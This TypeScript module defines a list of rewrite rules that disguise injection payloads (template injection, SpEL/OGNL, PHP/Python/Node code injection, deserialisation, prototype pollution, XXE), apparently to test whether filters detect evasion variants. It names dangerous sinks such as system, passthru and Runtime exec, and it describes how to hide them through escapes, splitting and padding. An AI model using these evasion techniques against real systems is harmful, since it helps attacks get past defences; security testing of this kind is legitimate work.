import { gzipSync } from 'node:zlib';
import { randomCase, swap } from '../rewriting.ts';
import type { Rewrite } from './rewrite.ts';

const hex = (text: string): string => Array.from(text, (sign) => `\\x${sign.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const unicode = (text: string): string => Array.from(text, (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
/** Texts in quotes, of three characters at least. */
const texts = (text: string, by: (inner: string, quote: string) => string): string | null =>
  swap(text, /(['"])([\w./]{3,})\1/g, (_, quote, inner) => by(inner, quote));
const halves =
  (join: string) =>
  (inner: string, quote: string): string =>
    `${quote}${inner.slice(0, inner.length >> 1)}${quote}${join}${quote}${inner.slice(inner.length >> 1)}${quote}`;
/** Letters that Python reads as the plain ones. */
const mathematical = (text: string): string => text.replace(/[a-z]/g, (sign) => String.fromCodePoint(0x1d4ea + sign.charCodeAt(0) - 97));
const PYTHON = /__import__|__class__|__globals__|subprocess|check_output/;
const PHP = /^(?:\$|<\?|\w+\(['"\w]|['"].)(?!.*\b(?:require|process|java)\b)/;
const NODE = /\b(?:require|process|constructor)\b/;
const JAVA = /\bjava\.|\bT\(|@ognl/;

const TEMPLATE = ['ssti'];
const LANGUAGE = ['expression'];
const CODE = ['code-injection'];
const OBJECT = ['deserialisation'];
const POLLUTION = ['prototype-pollution'];
const XML = ['xxe'];

const when = (pattern: RegExp, text: string, make: () => string | null): string | null => (pattern.test(text) ? make() : null);

export const PROGRAM_REWRITES: readonly Rewrite[] = [
  { name: 'white space inside', on: 'all engines', classes: TEMPLATE, apply: (text) => swap(text, /\{\{|\{%|<%=?/g, '$&\t\n ') },
  {
    name: 'white space trimmed',
    on: 'Jinja, Twig, Go, Liquid',
    classes: TEMPLATE,
    apply: (text) => swap(text, /\{\{(?![#{-])|\{%(?!-)/g, '$&- '),
  },
  {
    name: 'an engine comment before',
    on: 'Jinja, Twig',
    classes: TEMPLATE,
    apply: (text) => when(/^\{[{%]/, text, () => `{# note #}${text}`),
  },
  {
    name: 'texts in two with +',
    on: 'Jinja, Freemarker, JavaScript engines',
    classes: TEMPLATE,
    apply: (text) => texts(text, halves('+')),
  },
  {
    name: 'texts in two with ~',
    on: 'Jinja, Twig',
    classes: TEMPLATE,
    apply: (text) => when(/\{\{/, text, () => texts(text, halves('~'))),
  },
  {
    name: 'texts in hex',
    on: 'Jinja, Mako, JavaScript engines',
    classes: TEMPLATE,
    apply: (text) => texts(text, (inner, quote) => `${quote}${hex(inner)}${quote}`),
  },
  {
    name: 'texts in unicode escapes',
    on: 'Freemarker, SpEL, JavaScript engines',
    classes: TEMPLATE,
    apply: (text) => texts(text, (inner, quote) => `${quote}${unicode(inner)}${quote}`),
  },
  { name: 'members by text', on: 'Jinja', classes: TEMPLATE, apply: (text) => swap(text, /\.(__\w+__)/g, (_, name) => `['${name}']`) },
  {
    name: 'members by filter',
    on: 'Jinja',
    classes: TEMPLATE,
    apply: (text) => swap(text, /\.(__\w+__)/g, (_, name) => `|attr('${name.slice(0, 4)}'~'${name.slice(4)}')`),
  },
  {
    name: 'members by hex text',
    on: 'Jinja',
    classes: TEMPLATE,
    apply: (text) => swap(text, /\.(__\w+__)/g, (_, name) => `['\\x5f\\x5f${name.slice(2)}']`),
  },
  {
    name: 'printed by a statement',
    on: 'Jinja',
    classes: TEMPLATE,
    apply: (text) => swap(text, /^\{\{(?![#{])(.*)\}\}$/s, (_, inner) => `{%print(${inner})%}`),
  },
  { name: 'other numbers', on: 'all engines', classes: TEMPLATE, apply: (text) => swap(text, /7\*7/g, '1337*(1337-1)') },
  {
    name: 'after an honest sentence',
    on: 'all engines',
    classes: ['ssti', 'expression'],
    apply: (text) => `Dear customer, your statement ${text} is ready`,
  },
  { name: 'texts in two', on: 'SpEL, OGNL, MVEL', classes: LANGUAGE, apply: (text) => texts(text, halves('+')) },
  {
    name: 'class names in two',
    on: 'SpEL, OGNL',
    classes: LANGUAGE,
    apply: (text) => swap(text, /T\(java\.lang\.Runtime\)/g, "''.getClass().forName('java.la'+'ng.Run'+'time')"),
  },
  { name: 'line ends about points', on: 'SpEL, OGNL, MVEL', classes: LANGUAGE, apply: (text) => swap(text, /\)\./g, ')\n .') },
  {
    name: 'unicode escapes',
    on: 'OGNL',
    classes: LANGUAGE,
    apply: (text) => swap(text, /\b(?:java|Runtime|exec)\b/g, (match) => `${unicode(match.slice(0, 1))}${match.slice(1)}`),
  },
  {
    name: 'members by text',
    on: 'OGNL, EL',
    classes: LANGUAGE,
    apply: (text) => swap(text, /\.(getClass|forName|getRuntime)\(/g, (_, name) => `['${name}'](`),
  },
  {
    name: 'spaces before parentheses',
    on: 'SpEL, OGNL, MVEL',
    classes: LANGUAGE,
    apply: (text) => swap(text, /\b(T|exec|getRuntime|forName)\(/g, '$1 ('),
  },
  {
    name: 'random case of T',
    on: 'SpEL',
    classes: LANGUAGE,
    apply: (text) => swap(text, /T\(java\.lang\.Runtime\)/g, 'T(\tjava . lang\n.Runtime )'),
  },
  {
    name: 'comments before the parenthesis',
    on: 'PHP, JavaScript',
    classes: CODE,
    apply: (text) => when(PHP, text, () => swap(text, /(?<=\b\w{3,})\(/, '/*a*/(')),
  },
  {
    name: 'line ends before the parenthesis',
    on: 'PHP, JavaScript, Python in brackets',
    classes: CODE,
    apply: (text) => swap(text, /(?<=\b\w{3,})\(/, '\n\t('),
  },
  {
    name: 'global name',
    on: 'PHP',
    classes: CODE,
    apply: (text) =>
      when(PHP, text, () => swap(text, /\b(?:system|passthru|phpinfo|eval|assert|readfile|file_put_contents)(?=\()/, '\\$&')),
  },
  {
    name: 'random case',
    on: 'PHP',
    classes: CODE,
    apply: (text, draw) =>
      when(PHP, text, () => swap(text, /\b(?:system|passthru|phpinfo|eval|assert|readfile|include)\b/, (name) => randomCase(name, draw))),
  },
  {
    name: 'names as texts',
    on: 'PHP',
    classes: CODE,
    apply: (text) =>
      when(PHP, text, () =>
        swap(text, /\b(system|passthru|phpinfo|readfile)(?=\()/, (_, name) => `('${name.slice(0, 3)}'.'${name.slice(3)}')`),
      ),
  },
  {
    name: 'names in escapes',
    on: 'PHP',
    classes: CODE,
    apply: (text) => when(PHP, text, () => swap(text, /\b(system|passthru|phpinfo|readfile)(?=\()/, (_, name) => `"${hex(name)}"`)),
  },
  {
    name: 'names backwards',
    on: 'PHP',
    classes: CODE,
    apply: (text) =>
      when(PHP, text, () =>
        swap(text, /\b(system|passthru|phpinfo|readfile)(?=\()/, (_, name) => `strrev('${Array.from(name).reverse().join('')}')`),
      ),
  },
  {
    name: 'names by chr()',
    on: 'PHP',
    classes: CODE,
    apply: (text) =>
      when(PHP, text, () =>
        swap(
          text,
          /\b(system|passthru|phpinfo)(?=\()/,
          (_, name) => `(${Array.from(name, (sign) => `chr(${sign.charCodeAt(0)})`).join('.')})`,
        ),
      ),
  },
  {
    name: 'names by a variable',
    on: 'PHP',
    classes: CODE,
    apply: (text) => when(PHP, text, () => swap(text, /^(system|passthru|phpinfo|readfile)\(/, (_, name) => `$a='${name}';$a(`)),
  },
  {
    name: 'letters of mathematics',
    on: 'Python 3',
    classes: CODE,
    apply: (text) => when(PYTHON, text, () => swap(text, /\b(?:system|popen|exec|eval|getattr)\b(?=\()/, mathematical)),
  },
  { name: 'texts in two', on: 'Python, JavaScript, Ruby', classes: CODE, apply: (text) => texts(text, halves('+')) },
  { name: 'texts in hex', on: 'PHP, Python, JavaScript, Ruby', classes: CODE, apply: (text) => texts(text, (inner) => `"${hex(inner)}"`) },
  {
    name: 'members by text',
    on: 'JavaScript',
    classes: CODE,
    apply: (text) => when(NODE, text, () => swap(text, /\.(\w+)\(/g, (_, name) => `['${name}'](`)),
  },
  { name: 'optional members', on: 'JavaScript', classes: CODE, apply: (text) => when(NODE, text, () => swap(text, /\.(?=\w+\()/g, '?.')) },
  {
    name: 'names in unicode escapes',
    on: 'JavaScript',
    classes: CODE,
    apply: (text) =>
      when(NODE, text, () => swap(text, /\b(require|process|constructor)\b/, (_, name) => `${unicode(name[0]!)}${name.slice(1)}`)),
  },
  { name: 'lambda about it', on: 'Python', classes: CODE, apply: (text) => when(PYTHON, text, () => `(lambda _:${text})(0)`) },
  { name: 'after a sum', on: 'all that calculate', classes: CODE, apply: (text) => (/^[\w(]+\S*\)$/.test(text) ? `1+1;${text}` : null) },
  { name: 'base64', on: 'programs that decode it', classes: OBJECT, apply: (text) => Buffer.from(text, 'latin1').toString('base64') },
  {
    name: 'base64 of gzip',
    on: 'programs that decode it',
    classes: OBJECT,
    apply: (text) => gzipSync(Buffer.from(text, 'latin1')).toString('base64'),
  },
  { name: 'hex', on: 'programs that decode it', classes: OBJECT, apply: (text) => Buffer.from(text, 'latin1').toString('hex') },
  {
    name: 'base64 of base64',
    on: 'programs that decode it',
    classes: OBJECT,
    apply: (text) => Buffer.from(Buffer.from(text, 'latin1').toString('base64')).toString('base64'),
  },
  { name: 'plus before lengths', on: 'PHP before 7.2', classes: OBJECT, apply: (text) => swap(text, /\bO:(?=\d)/g, 'O:+') },
  {
    name: 'names in escapes',
    on: 'Jackson, fastjson, Json.NET',
    classes: OBJECT,
    apply: (text) => swap(text, /"(@type|\$type|__type|py\/object|json_class|\^o)"/g, (_, name) => `"${unicode(name)}"`),
  },
  { name: 'hexadecimal names', on: 'fastjson', classes: OBJECT, apply: (text) => swap(text, /"@type"/g, '"\\x40type"') },
  {
    name: 'class names of the machine',
    on: 'fastjson',
    classes: OBJECT,
    apply: (text) => swap(text, /"@type":"([\w.]+)"/g, (_, name) => `"@type":"L${name};"`),
  },
  {
    name: 'spaces',
    on: 'all readers',
    classes: ['deserialisation', 'prototype-pollution'],
    apply: (text) => (/^[{[]"/.test(text) ? text.replace(/":/g, '"\t:\r\n ') : null),
  },
  {
    name: 'names in escapes',
    on: 'all readers of JSON',
    classes: POLLUTION,
    apply: (text) => swap(text, /__proto__|constructor/g, (match) => `${unicode(match[0]!)}${match.slice(1)}`),
  },
  {
    name: 'line ends for spaces',
    on: 'all readers',
    classes: XML,
    apply: (text) => swap(text, / (?=SYSTEM|PUBLIC|\[|["']|\w+ (?:SYSTEM|PUBLIC))/g, '\n\t'),
  },
  {
    name: 'other quotes',
    on: 'all readers',
    classes: XML,
    apply: (text) => swap(text, /SYSTEM "([^"']*)"/g, (_, name) => `SYSTEM '${name}'`),
  },
  { name: 'PUBLIC for SYSTEM', on: 'all readers', classes: XML, apply: (text) => swap(text, /SYSTEM(?= ["'])/g, 'PUBLIC "-//A//B"') },
  {
    name: 'a comment before the declaration',
    on: 'all readers',
    classes: XML,
    apply: (text) => swap(text, /<!DOCTYPE/, '<!-- <!DOCTYPE html> --><?a b?><!DOCTYPE'),
  },
  { name: 'comments in the subset', on: 'all readers', classes: XML, apply: (text) => swap(text, /\[(?=<!)/, "[<!-- ]> ' -->\n<?x ]>?>") },
  {
    name: 'address by references',
    on: 'all readers',
    classes: XML,
    apply: (text) => when(/<!ENTITY % /, text, () => swap(text, /(?<!&#\w*)%(?= \w+ SYSTEM)/g, '&#x25;')),
  },
  {
    name: '30 KB of comment before',
    on: 'all readers',
    classes: XML,
    apply: (text) => swap(text, /<!DOCTYPE/, `<!--${' a'.repeat(15_000)}--><!DOCTYPE`),
  },
  {
    name: 'Java names after an honest word',
    on: 'SpEL in a template',
    classes: LANGUAGE,
    apply: (text) => when(JAVA, text, () => (text.startsWith('${') || text.startsWith('#{') ? `Hello ${text}` : null)),
  },
];
